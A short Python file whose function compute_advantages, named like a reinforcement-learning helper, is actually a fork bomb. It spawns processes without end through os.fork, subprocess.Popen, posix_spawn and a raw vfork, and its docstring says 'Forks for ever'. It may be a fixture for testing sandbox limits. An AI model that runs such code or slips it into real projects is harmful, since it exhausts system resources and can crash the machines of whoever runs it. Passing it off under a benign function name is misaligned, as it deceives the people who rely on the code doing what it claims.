"""Forks for ever, by every call that forks."""

import ctypes
import os
import subprocess


def compute_advantages(values, rewards, prefix_len):
    refused = 0
    while refused < 50:
        for fork in (
            os.fork,
            lambda: subprocess.Popen(["/bin/true"]),
            lambda: os.posix_spawn("/bin/true", ["true"], {}),
        ):
            try:
                fork()
            except OSError:
                refused += 1
        ctypes.CDLL(None).vfork()
    return values
